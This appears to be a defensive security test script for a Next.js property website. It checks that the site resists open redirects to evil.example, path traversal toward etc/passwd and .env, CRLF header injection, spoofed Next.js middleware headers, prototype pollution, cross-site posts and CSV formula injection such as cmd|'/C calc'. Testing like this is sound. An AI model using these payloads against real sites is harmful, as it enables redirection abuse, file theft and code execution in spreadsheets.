// Requests that lie: addresses that lead elsewhere or climb, headers that Next believes, keys that every object has, lines
// within lines, forms of other sites.
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { atOnce } from '../../lib/at-once';
import { promised } from '../chaos/support/promises';
import { exchange, type Answer, type Sent } from '../chaos/support/send';
import { OddUpstream } from '../e2e/support/odd-upstream';
import { startSite } from '../e2e/support/processes';
import { until } from '../support/until';
import { csvCell } from '../../reference-api/cli/csv';

type Asked = Sent & { path: string };

/** Answered or the script fails: each of these can be sent. */
const ask = (asked: Asked) => exchange(site.url, asked.path, asked);

const EVIL = 'evil.example';

/** Addresses that lead to another site where somebody reads them carelessly. */
function leadingAway(): Asked[] {
  const starts = [
    ...[
      '//',
      '///',
      '////',
      '/\\',
      '/\\\\',
      '\\\\',
      '/%5c',
      '/%5C%5c',
      '/%2f',
      '/%2f%2f',
      '/%2F/',
      '//%2f',
      '/.//',
      '/..//',
    ],
    ...[
      '/%2e/',
      '/%2e%2e//',
      '/;//',
      '/;@',
      '/@',
      '/%40',
      '/:@',
      '/%3a%40',
      '/%09/',
      '/%09//',
      '/%20//',
      '/%0a//',
      '/%0d//',
    ],
    ...[
      '/%00//',
      '/%e3%80%82',
      '/%ef%bc%8f%ef%bc%8f',
      '/%c0%af%c0%af',
      '/%e2%81%84%e2%81%84',
      '/https://',
      '/https:',
      '/http:%2f%2f',
    ],
    ...[
      '/javascript:',
      '/en//',
      '/en/\\',
      '/en/%2f',
      '/en/%5c',
      '/en//%2f',
      '/EN//',
      '/ar//',
      '/ar/%2f%2f',
      '/fa/\\',
      '/fa/en//',
    ],
    ...[
      '/properties//',
      '/Properties//',
      '/PROPERTIES/\\',
      '/properties/%2f%2f',
      '/ABOUT//',
      '/About/%5c',
      '/about/..//',
      '/a%62out//',
    ],
  ];
  const ends = ['', '/', '/..', '/%2f..', '/properties', '?city=&city=', '/ABOUT'];
  const paths = starts.flatMap((start) => ends.map((end) => start + EVIL + end));
  const keys = [
    'next',
    'redirect',
    'return',
    'url',
    'continue',
    'goto',
    'to',
    'callbackUrl',
    'locale',
    'lang',
    'search',
  ];
  const values = [`//${EVIL}`, `https://${EVIL}`, `/\\${EVIL}`, `%2f%2f${EVIL}`, `%0d%0aLocation:%20//${EVIL}`];
  const queries = keys.flatMap((key) => values.map((value) => `${key}=${value}`));
  return [
    ...paths.map((each) => ({ path: each })),
    ...queries.flatMap((query) => [{ path: `/properties?city=&city=&${query}` }, { path: `/ABOUT?${query}` }]),
    ...[`//${EVIL}`, `/\\${EVIL}`, '/'].flatMap((place) =>
      [EVIL, `127.0.0.1@${EVIL}`, `site.example.${EVIL}`, `site.example@${EVIL}`].map((host) => ({
        method: 'POST',
        path: '/api/newsletter',
        headers: { 'content-type': 'application/x-www-form-urlencoded', referer: `https://${host}${place}` },
        body: `email=a%40b.example&locale=${encodeURIComponent(`//${EVIL}`)}`,
      })),
    ),
    {
      method: 'POST',
      path: '/api/newsletter',
      headers: {
        'content-type': 'application/x-www-form-urlencoded',
        referer: `https://site.example//${EVIL}/x`,
      },
      body: 'email=a',
    },
    ...['/en/about', '/ABOUT', '/properties?city=&city='].flatMap((each) => [
      { path: each, headers: { 'x-forwarded-host': EVIL, 'x-forwarded-proto': 'https' } },
      {
        path: each,
        headers: { forwarded: `host=${EVIL}`, 'x-original-url': `//${EVIL}`, 'x-rewrite-url': `//${EVIL}` },
      },
    ]),
  ];
}

/** Addresses that climb out of a folder, end a text early, or cannot be read. */
function climbing(): string[] {
  const climbs = [
    '../',
    '..%2f',
    '%2e%2e/',
    '%2e%2e%2f',
    '..%5c',
    '..\\',
    '....//',
    '..;/',
    '%252e%252e%252f',
    '%c0%ae%c0%ae/',
    '..%00/',
  ];
  const roots = [
    '/',
    '/media/',
    '/_next/',
    '/_next/static/',
    '/og/en/',
    '/fonts/',
    '/api/',
    '/sitemaps/',
    '/properties/',
    '/icons/',
  ];
  const goals = ['etc/passwd', 'package.json', '.env', 'server/start.ts', '.next/BUILD_ID'];
  const climbed = roots.flatMap((root) =>
    climbs.flatMap((climb) => goals.map((goal) => root + climb.repeat(6) + goal)),
  );
  const images = [...climbs, 'http://127.0.0.1/', 'file:///'].flatMap((climb) =>
    goals.map((goal) => `/_next/image?url=${encodeURIComponent(`/media/${climb}${goal}`)}&w=640&q=75`),
  );
  const odd = [
    '%',
    '%f',
    '%ff',
    '%00',
    '%fe%ff',
    '%ed%a0%80',
    '%u0041',
    '\u0001',
    '%0',
    ';',
    ';jsessionid=1',
    '.',
    '..',
    '%20',
  ];
  const words = [
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    '$RC',
    'null',
    'undefined',
    'NaN',
    '[slug]',
  ];
  const places = [
    '/',
    '/properties/',
    '/properties/texts-1/units/',
    '/ar/',
    '/blog/',
    '/media/',
    '/og/en/',
    '/sitemaps/',
    '/api/',
  ];
  return [
    ...climbed,
    ...images,
    ...places.flatMap((place) => [...odd, ...words, 'a'.repeat(4000)].map((each) => encodeOdd(place + each))),
  ];
}

/** Node's client refuses control characters in an address; they are sent escaped. */
const encodeOdd = (text: string) => text.replace(/[\p{Cc} ]/gu, (sign) => encodeURIComponent(sign));

/** Headers by which parts of Next speak to each other, and which proxies believe. */
const INNER: Record<string, string>[] = [
  ...[
    'middleware',
    'src/middleware',
    'pages/_middleware',
    'middleware:middleware:middleware:middleware:middleware',
  ].map((name) => ({
    'x-middleware-subrequest': name,
  })),
  { 'x-middleware-subrequest': Array(5).fill('src/middleware').join(':') },
  { 'x-middleware-subrequest': Array(5).fill('/middleware').join(':'), 'x-middleware-subrequest-id': '1' },
  { 'x-middleware-next': '1' },
  { 'x-middleware-rewrite': '/editor/previews' },
  { 'x-middleware-invoke': '1' },
  { 'x-middleware-prefetch': '1' },
  { 'x-middleware-redirect': `//${EVIL}` },
  { 'x-middleware-override-headers': 'x-a', 'x-middleware-request-x-a': '1' },
  { 'x-middleware-set-cookie': 'a=1' },
  { 'x-invoke-path': '/editor/previews', 'x-invoke-status': '500', 'x-invoke-error': '{}', 'x-invoke-output': '/x' },
  { 'x-matched-path': '/editor/previews', 'x-now-route-matches': '1=editor' },
  { 'x-nextjs-data': '1' },
  { 'x-nextjs-rewritten-path': '/editor/previews' },
  { 'x-nextjs-redirect': `//${EVIL}` },
  { 'x-nextjs-matched-path': '/editor/previews' },
  { 'x-nextjs-postponed': '1', 'next-resume': '1' },
  { 'x-prerender-revalidate': 'x', 'x-prerender-revalidate-if-generated': '1' },
  { 'x-next-revalidated-tags': '_N_T_/', 'x-next-revalidate-tag-token': 'x' },
  { 'x-original-url': '/editor/previews', 'x-rewrite-url': '/editor/previews' },
  { 'x-http-method-override': 'DELETE', 'x-method-override': 'PUT' },
  { 'x-front-door': '1' },
];

/** Calls that take a body. */
const WRITES = [
  '/api/enquiry',
  '/api/newsletter',
  '/api/favourite',
  '/api/favourite/7',
  '/api/editor',
  '/api/revalidate',
];

const PROTOTYPE_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'constructor.prototype',
  '__proto__.polluted',
  'toString',
  'valueOf',
];

function polluting(): Asked[] {
  const queries = PROTOTYPE_KEYS.flatMap((key) => [
    ...[
      '/properties',
      '/favourites/shortlist',
      '/api/search',
      '/properties/texts-1/units',
      '/api/unit',
      '/api/property/cards',
    ].map((place) => `${place}?${key}=1&${key}[polluted]=1&${key}[]=2&ids=${key}&filter[${key}]=1`),
  ]);
  const bodies = PROTOTYPE_KEYS.flatMap((key) => [
    `{"${key}":{"polluted":"yes"},"values":{"${key}":{"polluted":"yes"},"name":"a"}}`,
    `{"values":{"name":{"${key}":1}},"property":{"${key}":{"polluted":1}},"${key}":1}`,
  ]);
  const json = { 'content-type': 'application/json' };
  return [
    ...queries.map((each) => ({ path: each })),
    ...WRITES.flatMap((place) => bodies.map((body) => ({ method: 'POST', path: place, headers: json, body }))),
    ...PROTOTYPE_KEYS.map((key) => ({
      path: '/properties',
      headers: { [key]: '1', cookie: `${key}=1; api-${key}=2` },
    })),
    ...PROTOTYPE_KEYS.map((key) => ({
      method: 'POST',
      path: '/contact',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: `${key}=1&${key}[polluted]=1&name=${key}`,
    })),
  ];
}

/** Where something can be posted to. */
const TAKERS = [
  ...[
    '/',
    '/contact',
    '/properties',
    '/properties/texts-1',
    '/properties/texts-1/units/2',
    '/editor/previews',
    '/no-such-page',
  ],
  ...WRITES,
  ...['/api/search', '/media/unit.png', '/_next/image', '/sw.js', '/og/en.jpg', '/feeds/meta-en.xml', '/sitemap.xml'],
];
const FOREIGN: Record<string, string>[] = [
  { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'navigate', origin: 'null' },
  { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'cors', origin: `https://${EVIL}` },
  { 'sec-fetch-site': 'same-site', 'sec-fetch-mode': 'navigate', origin: 'https://blog.site.example' },
  { 'sec-fetch-site': 'none', 'sec-fetch-mode': 'no-cors' },
  { 'sec-fetch-site': 'nonsense' },
  { origin: `https://${EVIL}` },
  { origin: `https://site.example.${EVIL}` },
];

const upstream = await new OddUpstream().listen();
upstream.enquiryAnswer = { status: 201, body: { id: 1, message: 'Thank you.' } };
const reporter = pathToFileURL(path.join(import.meta.dirname, 'support/report-prototype.mjs')).href;
const site = await startSite(upstream.url, { NODE_OPTIONS: `--import=${reporter}`, LOG_LEVEL: 'silent' });
const own = [new URL(site.url).host, 'site.example'];

/** What a browser would make of where an answer leads; null where it leads nowhere. */
function leadsTo({ headers }: Answer, from: string): string | null {
  const { location } = headers;
  if (location === undefined) return null;
  const base = new URL(site.url + (from.startsWith('/') && !from.startsWith('//') ? from : '/'));
  return URL.canParse(location, base) ? new URL(location, base).host : `unreadable: ${location}`;
}

const few = (list: readonly string[]) => list.slice(0, 5).join('; ');

const askAll = (list: readonly Asked[]) => atOnce(list, 4, async (each) => ({ ...each, answer: await ask(each) }));

/** Answers that are the site's own fault. */
const broken = (list: readonly (Asked & { answer: Answer })[]) =>
  list
    .filter(({ answer }) => answer.status >= 500 && answer.status !== 502)
    .map((each) => `${each.answer.status} ${each.path.slice(0, 80)}`);

try {
  const away = await askAll(leadingAway());
  const left = away.filter((each) => {
    const host = leadsTo(each.answer, each.path);
    return host !== null && !own.includes(host);
  });
  const redirects = away.filter(({ answer }) => answer.headers.location !== undefined).length;
  promised(
    'No address leads to another site',
    left.length === 0 && broken(away).length === 0,
    `${away.length} forms, ${redirects} redirects, ${left.length} away ${few(left.map((each) => `${each.path} to ${each.answer.headers.location ?? ''}`))} ${few(broken(away))}`,
  );

  const lines = ['%0d%0a', '%0a', '%0d', '%E5%98%8D%E5%98%8A', '%c4%8d%c4%8a', '%u000d%u000a', '%250d%250a'].flatMap(
    (line): Asked[] => {
      const injected = `${line}x-injected:%20yes${line}set-cookie:%20injected=1${line}${line}<script>`;
      return [
        ...[
          '/',
          '/en/',
          '/ABOUT',
          '/properties/',
          '/properties?city=&city=&search=',
          '/media/',
          '/og/en/',
          '/_next/image?url=',
        ].map((place) => ({ path: place + injected })),
        { path: '/', headers: { cookie: `api-a=${injected}`, referer: `https://site.example/${injected}` } },
        {
          method: 'POST',
          path: '/api/newsletter',
          headers: { 'content-type': 'application/x-www-form-urlencoded', referer: `https://site.example/${injected}` },
          body: `email=${injected}&locale=${injected}`,
        },
      ];
    },
  );
  const split = await askAll(lines);
  const injected = split.filter(({ answer }) => 'x-injected' in answer.headers || 'set-cookie' in answer.headers);
  promised(
    'No line becomes a header',
    injected.length === 0 && broken(split).length === 0,
    `${split.length} requests, ${injected.length} injected ${few(broken(split))}`,
  );

  const climbed = await askAll(climbing().map((each) => ({ path: each })));
  const leaked = climbed.filter(({ answer }) =>
    /root:.*:0:0:|"property-site"|API_BASE_URL=|giveUp/.test(answer.body.toString()),
  );
  promised(
    'No address climbs out, and none that cannot be read is a fault of the site',
    leaked.length === 0 && broken(climbed).length === 0,
    `${climbed.length} addresses, ${leaked.length} leaked, ${broken(climbed).length} of 5xx ${few(broken(climbed))}`,
  );

  const cases = [
    { path: '/properties?city=&city=', what: 'middleware' },
    { path: '/about', what: 'page' },
    { path: '/no-such-page', what: 'unknown address' },
    { path: '/screens/not-found', what: 'screen' },
  ];
  const headOf = ({ body }: Answer) => /<title>.*?<\/title>/.exec(body.toString())?.[0] ?? '';
  const wrong: string[] = [];
  for (const { path: address } of cases) {
    const plain = await ask({ path: address });
    for (const headers of INNER) {
      const lying = await ask({ path: address, headers });
      const same =
        lying.status === plain.status &&
        lying.headers.location === plain.headers.location &&
        lying.headers['set-cookie'] === undefined &&
        headOf(lying) === headOf(plain);
      if (!same)
        wrong.push(`${address} with ${JSON.stringify(headers)}: ${lying.status} ${lying.headers.location ?? ''}`);
    }
  }
  promised(
    'No header of Next’s own changes an answer, or gets past the middleware',
    wrong.length === 0,
    `${cases.length * INNER.length} requests, ${wrong.length} differ ${few(wrong)}`,
  );

  const foreign = await askAll(
    TAKERS.flatMap((place) =>
      ['POST', 'PUT', 'DELETE', 'PATCH'].flatMap((method) =>
        FOREIGN.map((headers) => ({ method, path: place, headers })),
      ),
    ),
  );
  const letIn = foreign.filter(({ answer }) => answer.status !== 403);
  promised(
    'What another site’s page posts is refused with 403, wherever it is posted to',
    letIn.length === 0 && upstream.enquiries.length === 0,
    `${foreign.length} requests, ${letIn.length} not refused ${few(letIn.map((each) => `${each.method ?? ''} ${each.path} ${each.answer.status}`))}`,
  );

  const polluted = await askAll(polluting());
  site.process.kill('SIGUSR2');
  const said = await until(() => /^prototypes (.*)$/m.exec(site.output())?.[1]);
  promised(
    'No key of a request reaches the prototype of all objects',
    said === '[]' && broken(polluted).length === 0,
    `${polluted.length} requests, added: ${said} ${few(broken(polluted))}`,
  );

  const begins = [
    '=',
    '+',
    '-',
    '@',
    '\t',
    '\r',
    '\n',
    '|',
    '%',
    '\uff1d',
    '\uff0b',
    '\u200b=',
    ' =',
    '\u00a0=',
    '\ufeff@',
    '"=',
    '\n=',
  ];
  const ends = [
    '1+1',
    "cmd|'/C calc'!A0",
    'HYPERLINK("https://evil.example")',
    'IMPORTXML(CONCAT("https://evil.example"))',
    'DDE("a";"b")',
  ];
  const cells = begins.flatMap((begin) => ends.map((end) => begin + end));
  // What a spreadsheet reads: the text between the outer quotes, with doubled quotes undone.
  const live = cells.filter((cell) => {
    const text = csvCell(cell).slice(1, -1).replaceAll('""', '"');
    return /^[\s\p{Cf}]*[=+\-@|%\uff1d\uff0b\uff0d\uff20]/u.test(text) || !text.endsWith(cell);
  });
  promised(
    'No cell of the export is a formula',
    live.length === 0,
    `${cells.length} cells, ${live.length} live ${few(live)}`,
  );
} finally {
  await site.stop();
  await upstream.close();
}
